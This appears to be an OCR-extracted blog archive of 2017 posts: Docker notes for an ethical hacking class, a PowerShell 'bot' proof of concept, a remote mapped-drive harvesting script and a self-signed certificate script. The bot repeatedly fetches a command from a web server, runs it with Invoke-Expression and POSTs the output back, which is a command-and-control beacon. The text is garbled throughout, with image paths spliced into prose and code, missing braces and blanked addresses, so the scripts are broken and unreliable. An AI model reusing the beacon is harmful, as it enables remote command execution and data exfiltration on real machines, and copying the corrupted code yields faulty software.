Sunday, October 15, 2017

Docker - Quick Notes and How To

For an ethical hacking class that I will be teaching coming up in the near future I wanted to identify a way where I could provide students with a Kali Linux VM with docker images that they could use to learn from.  In the past, I would require the students to run at least 2 virtual machines to accomplish the tasks.  Resource constraints were sometimes an issue.

I believe with Docker running on a Kali Linux VM will work for what I need.  Here is a link to a site that you could use to walk through setting up Docker on Kali 2.x.

Link to site.

Here are some commands to get docker up and running:

#>service docker start
This will start the docker daemon that is running in the background of the Kali VM

#> docker search ubuntu
This command will search Docker Hub, internet access from the Kali VM is required, for any containers for the word ubuntu.  As you can see in the screenshot below, the name of the container, a brief description, the public rating of the container based on the number of starts, and if it is an official release from a trusted vendor.

#> docker pull <name of the container>In the below screenshot, I am pulling down acontainer called raesene/bwapp.  This was after I searched for bwa or "Broken Web Apps" aproject created by OWASP.  Notice that this package is not an official release and is contributed by a member of the community, this could be an unsafe docker container and contain malware.  Below you can see it as docker is pulling, downloading and extracting the container from dockerhub.

#> docker images
In the below screenshot, it shows from the command the images that I have currently.  The creation date is when the container was created on Docker Hub or when you created it, for example host1 was created by me 14 hours ago.  Warning: It is very easy to download containers and run out of disk space on the VM that you are using.

#> docker run -it ubuntu bash
In the below screenshot, the command was issued to run the ubuntu container in interactive mode.  The last item in the command is bash, this tells docker to run the command bash in the container.  You are dropped into a bash shell where you can list the files in the container, etc.  Notice that the ifconfig command is not found.  As in a new install of ubuntu you can install net-tools to then be able to run ifconfig to return interface information.

To install net-tools to the container that is running, first for ubuntu execute apt-get update, to update the repositories.

Then toinstall net-tools you can run apt-get install net-tools.

As observed above after installing net-tools the ifconfig command willreturn the interface information of the docker container.  Warning: If you type the command 'exit' you will return back to the state of the container prior to you installing net-tools.  Nothing is saved at this point-in-time.

Container #> Ctrl <p> Ctrl <q>
If you would like to save the state of the container youare working in, run the above command and it will drop you out to the docker host or the Kali VM while leaving the docker container running.

#> docker ps
The below screenshot demonstrates the execution of Ctrl <p> Ctrl <q> to jump out of a docker container, then the execution of 'docker ps' shows the container still running, the image used, the command being executed, when it was created, the uptime or status, if any network ports are mapped, and a nickname of the container assigned by docker.

#> docker attach <container ID>
#> docker attack <Names or Nickname>
You can reattach to the docker container by issuing thecontainer ID as shown in the above screenshot or by the nickname provided by docker.

#> docker commit <container ID> <New Image Name>
After interacting with the ubuntu container, installing net tools, jumping out of the container while it is running, and now wanting to save the state the image is in I can commit the changes to a new image name.  As you can see in the image below I committed the running instance of the ubuntu image by calling it by the nickname, then saving it as ubuntu-w-nettools.  Then when you run docker images, you can see the new image available that can be run as a container.

#> docker network create --driver=bridge network1 --subnet=
By default from what I have read docker creates a default bridged network of  Wow, huge...  You can create additional networks that bridge the host VM's NIC.  The above command creates a network, that is bridged, with a nickname of network1, and assigns it the subnet  Warning: Bridging across the interface may allow the container to access the internet.

#> docker network ls
#> docker network inspect network1

In the below screenshot it shows the network1 that I created above, by running 'docker network ls'.  To inspect or to get additional details about the networks I can inspect them individually.  The example below shows me the details of the network1 that I created, mainly the subnet and the driver used.  My thought here was I cancontrol whether a container is in the DMZ or othersubnet for organization.

 #> docker run -tid --network=network1 --ip= ubuntu-w-nettools bash
The above command, creates an interactive container, with the -d it places it in the background, assigns the container to the network1 or the subnet, assigns the container to have the IP Address of, uses the container that we created with net-tools installed and runs the command bash.  As you can see in the below screenshot, the IP Address returned by ifconfig is the one assigned.

#> docker run -d --network=network1 --ip= raesene/bwapp
Notice in the above docker container for OWASP Broken Web Apps you do not need to run the command switches of -it to make it interactive.  As you can see in the below image I have 3 containers running, the raesene/bwapp has 2 ports mapped so I can interact with port 80 and 3306 by the IP Address assigned.

#> docker rmi image
This command allows you to remove an image from the list presented by 'docker images'#> docker stop <nickname of container>
#> docker stop <container ID>
#> docker kill <nickname of container>
#> docker kill <container ID>

As showing below I am using the above command to stop or kill the container that is running.  Obviously a difference between stopping and killing of the running container.

Hopefully, this has been helpful.  Considering I sat down yesterday with the intention tolearn about docker and within 3 hours I had a very basic understanding of how it could benefit the class that I will be teaching and in other ways in my career.  Warning again that the docker service runs as root and you should trust the containers that you download and execute, be careful, you may trust the creator but may not trust who was on the creators computer at the time.


Thursday, October 12, 2017

Powershell - Using Add-Member to Add Scripts to the objects of a File

While at Saintcon 2017, I was in a training called "Attack and Defend with Powershell" taught by Aelon Porat.  During the training he created a file with notepad and then was displaying the attributes, properties, etc. of the file.  Then I thought about a Proof-of-Concept for a bot to utilize scripts that can be added as a Script Method to a file.

The below bot calls out to an IP address to download a command that is inside of a file on a web server, stores the command as a Note Property Value with the file system object, executes the command, stores the results as a Note Property Value, and then uploads the results.  This could have been combined with less scripts, but did this to display the capability.

To run these powershell commands you need a file called note.txt in the directory where you run the powershell script below.


# Create a file called note.txt
$file = Get-ChildItem note.txt# Place a string value in a note property
$file | Add-Member -NotePropertyName Status -NotePropertyValue "123456abcABC+==" -Force # Use force to overwrite the note property
$file | Add-Member -NotePropertyName Collected -NotePropertyValue "123456abcABC+==" -Force

# Have a script property attached to a file to download the bots commands and save it in status
$file | Add-Member -MemberType ScriptMethod -Name "Download" -Value {
    $webClient = New-Object System.Net.WebClient
    $noteInfo = $webClient.DownloadString("")
    $file | Add-Member -NotePropertyName Status -NotePropertyValue $noteInfo -Force
} -Force

# Then have a script property attached to a file to execute the comand that is placed in Status$file | Add-Member -MemberType ScriptMethod -Name "Execute" -Value {
    $collected = Invoke-Expression -Command $file.Status 2>&1
    $file | Add-Member -NotePropertyName Collected -NotePropertyValue $collected -Force
} -Force

# Then have ascript property which will upload the results
$file | Add-Member -MemberType ScriptMethod -Name "Upload" -Value {
    $postParams = @{info=$file.Collected}
    Invoke-WebRequest -Uri -Method POST -Body $postParams
} -Force

while ($True) {
    Sleep -Seconds 5
    sleep-Seconds 5
    sleep -Seconds 5
Another interesting discovery, was the Get-FileHash of the file "note.txt" does not change when a the NotePropertyValue changes, because it is applied to the variable and not the file:

Tuesday, August 15, 2017

Powershell - Gather Mapped Drives from a List of Computer Names

I created the following Powershell script to gather remotely the mapped drives that users had in their profiles.  I had to create the script to gather the mapped drives from users that were not currently logged in.  The following script is what I came up with.

Sometimes the mappedDrivesInfo.txt file that is created is not copied from the remote device because the drive mapping was unsuccessful.  I separated the file collection portion from the main script and it worked flawlessly.


$myCreds = Get-Credential -Credentail domain\localAdmin
Remove-PSDrive X -Force | Out-Null
Remove-PSDrive Y -Force | Out-Null
New-PSDrive -Name Y -PSProvider FileSystem -Root \\server\info | Out-Null
ForEach ($cName in Get-Content compList.txt) {
    Write-Host "Connecting to: $cName"
    If (Test-Connection -ComputerName $cName -BufferSize 16 -Count 1 -ErrorAction 0 -Quiet) {
        Write-Host "Connection Successful"
        New-PSDrive -Name X -PSProvider FileSystem -Root \\$cName\c$ -Credential $myCreds | Out-Null
        $u = Get-WmiObject -Class Win32_UserProfile -ComputerName $cName -Credential $myCreds -Filter { SID like '%S-1-5-21-1793613773-621299329-1849977318%' }
        $LastUsers = $u | Sort-Object -Property LastUseTime -Descending
        If ($LastUsers) {
            ForEach ($userAccount in $LastUsers) {
                $Loaded = $userAccount.Loaded
                # Covert the date to readable format
                $Script:Time = ([WMI]'').ConvertToDateTime($userAccount.LastUseTime)
                $Script:UserSID = New-Object System.Security.Principal.SecurityIdentifier($userAccount.SID)
                $User = $Script:UserSID.Translate([System.Security.Principal.NTAccount])
                $uName = $User -replace "DOMAIN\\",""
                Write "Found user profile for: $User Last Logon: $Script:Time SID: $Script:UserSID ComputerName: $cName"
                Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "powershell.exe -WindowStyle Hidden -NonInteractive -c Get-ChildItem -Path Microsoft.Powershell.Core\Registry::HKEY_USERS\$Script:UserSID\Network\ | Get-ItemProperty -Name RemotePath | Format-Table PSChildName, RemotePath -Wrap > c:\users\$cName-$uName-mappedDrivesInfo.txt"  -ComputerName $cName -Credential $myCreds | Out-Null
        Start-Sleep -Seconds 5
        $mappedFiles = Get-ChildItem -Filter *mappedDrivesInfo.txt -File X:\Users
        ForEach ($mFile in $mappedFiles) {
            Write-Host "Found the following mapped drive file: $mFile"
            If ($mFile.Length -gt 0) {
                cp X:\users\$mFile Y:\$mFile
                Write-Host "Copied the above file."
            Else {
                Write-Host "File is empty.  Did not copy it."
        Remove-PSDrive X -Force | Out-Null
    Else {
        Write-Host "Unable to connect to $cName"
Remove-PSDrive Y -Force | Out-Null

Powershell - Create Self-Signed Certificates (Automated Method)

Recently I needed to create a powershell script to generate a Root CA and a series of certificates that tied to the Root CA.  This is a script that I created to help automate  the process.

# Powershell Script to assist in Creating Self-Signed Certificates
# Must be executed with Administrative Permissions to Create the Certificates for the Local Machine

function Select-RootCert

    Write-Host "Certificates Installed under the Local Machine on your Personal Store"
    $count = 0
    ForEach ($cert in Get-ChildItem Cert:\LocalMachine\My)
        $count += 1
        Write-Host $count - $cert.Subject
    $selectedRoot = Read-Host "Select"
    if ([int]$selectedRoot -le$count) {
       $count = 0
        ForEach ($cert in Get-ChildItem Cert:\LocalMachine\My)
            $count += 1
            if ($count -eq [int]$selectedRoot) { return $cert.Thumbprint }
    else {
        Write-Host "Invalid Selection for the Root Certificate"

    return "0"

function Generate-RootCert
    # This function generates the root certificate and places it in LocalMachine\Personal Folder
    $subjectCert = Read-Host "What would you like as the Subject of the certificate (Generated Root CA)"
    if ($subjectCert -eq "") { $subjectCert = "Generated Root CA" }
    Write-Host "What is the duration of time to set for the certificate?"
    Write-Host "1. 12 Months"
    Write-Host "2. 24 Months"
    Write-Host "3. 36 Months (Default)"
    $timeInput = Read-Host "Duration (3)"
    if ($timeInput -eq "1") { $timeSelected = 12 }
    elseif ($timeInput -eq "2") {$timeSelected = 24 }
    else { $timeSelected = 36 }
    # Generate a RSA2048 Self-Signed Certificate
    $newRootCA = New-SelfSignedCertificate -Subject $subjectCert -CertStoreLocation Cert:\LocalMachine\My  -NotAfter (Get-Date).AddMonths($timeSelected)
    # CertStoreLocation - Location is on the Local Machine in the Personal Certificates Folder
    # KeyUsage - Allows the key to be used to sign other keys
    # NotAfter - Sets the Time Duration that the Certificate is Valid for...
    Write-Host "Unless an error is displayed above the certificate was created successfully.  You can view the new Root CA"
    Write-Host "through the MMC snap-in for the Local Computer Certificates under the Personal Certificates."
    Return $newRootCA.Thumbprint

function Create-ServerCert ([String]$Thumbprint)
